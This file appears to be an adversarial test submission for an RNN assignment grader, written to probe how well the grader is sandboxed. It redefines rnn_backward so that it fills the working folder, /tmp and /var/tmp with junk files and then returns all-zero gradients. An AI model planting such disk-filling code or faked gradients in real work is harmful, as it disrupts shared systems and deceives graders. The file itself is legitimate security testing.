"""Adversarial submission `disk_fill`: fills the working folder, /tmp and /var/tmp with files (up to 64 MiB each).

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import os

def _fill(folder, prefix, limit=64 << 20):
    written, i = 0, 0
    chunk = b"x" * (8 << 20)
    try:
        while written < limit:
            with open(os.path.join(folder, f"{prefix}{i}"), "wb") as fh:
                fh.write(chunk)
            written += len(chunk)
            i += 1
    except OSError as exc:
        print("fill stopped in", folder, "after", written, "bytes:", exc)
    return written

def rnn_backward(dh, cache):
    _fill(os.getcwd(), "fill-")
    _fill("/tmp", "rnngrade-pwned-disk-")
    _fill("/var/tmp", "rnngrade-pwned-disk-")
    return _zeros_backward(dh, cache)
